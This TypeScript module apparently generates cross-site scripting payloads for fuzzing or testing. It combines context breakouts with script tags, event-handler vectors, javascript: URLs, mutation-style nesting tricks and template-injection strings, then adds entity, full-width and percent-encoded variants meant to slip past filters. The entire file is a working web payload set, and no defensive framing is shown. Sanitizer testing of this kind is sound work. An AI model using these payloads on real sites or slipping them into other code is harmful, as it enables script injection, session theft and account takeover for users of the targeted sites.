import { type Payload, product, RUNS } from './payload.ts';

/** Out of an element, an attribute, a comment or a script, into markup again. */
const OUT_OF = ['', '"', "'", '">', "'>", '</title>', '</style>', '</textarea>', '-->', ']]>', '</script>', '&quot;>'];

const MARKUP = [
  `<script>${RUNS}</script>`,
  `<sCrIpT >${RUNS}</ScRiPt>`,
  `<img src=x onerror=${RUNS}>`,
  `<img/src=x/onerror=${RUNS}//`,
  `<svg onload=${RUNS}>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUNS}>`,
  `<body onload=${RUNS}>`,
  `<iframe srcdoc="<script>${RUNS}</script>">`,
  `<iframe src="javascript:${RUNS}">`,
  `<details open ontoggle=${RUNS}>x`,
  `<video><source onerror=${RUNS}></video>`,
  `<audio src=x onerror=${RUNS}>`,
  `<object data="javascript:${RUNS}">`,
  `<embed src="javascript:${RUNS}">`,
  `<input autofocus onfocus=${RUNS}>`,
  `<style onload=${RUNS}></style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUNS}">`,
  `<a href="javascript:${RUNS}" id=x>x</a>`,
  `<form action="javascript:${RUNS}"><button>x`,
  `<base href="javascript:/">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `<!--><img src=x onerror=${RUNS}>-->`,
];
const IN_ATTRIBUTES = [
  `" onmouseover=${RUNS} x="`,
  `' autofocus onfocus=${RUNS} '`,
  `\` onfocus=${RUNS} \``,
  `javascript:${RUNS}`,
  `JaVaScRiPt:${RUNS}`,
  `java\tscript:${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `vbscript:${RUNS}`,
  `&#106;avascript:${RUNS}`,
  `expression(${RUNS})`,
  `url(javascript:${RUNS})`,
  `\${${RUNS}}`,
  `{{constructor.constructor('${RUNS}')()}}`,
  `<%= ${RUNS} %>`,
];

const entities = (text: string): string => text.replaceAll(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`);
const fullWidth = (text: string): string =>
  text.replaceAll(/[<>"'=]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0));
const percent = (text: string): string => encodeURIComponent(text);

export const markupPayloads = (): readonly Payload[] => [
  ...product(OUT_OF, MARKUP, (out, markup) => ({ family: 'markup', text: out + markup })),
  ...MARKUP.flatMap((text) =>
    [entities(text), entities(entities(text)), fullWidth(text), percent(text)].map((encoded) => ({
      family: 'encoded markup',
      text: encoded,
    })),
  ),
  ...IN_ATTRIBUTES.map((text) => ({ family: 'attribute', text })),
];
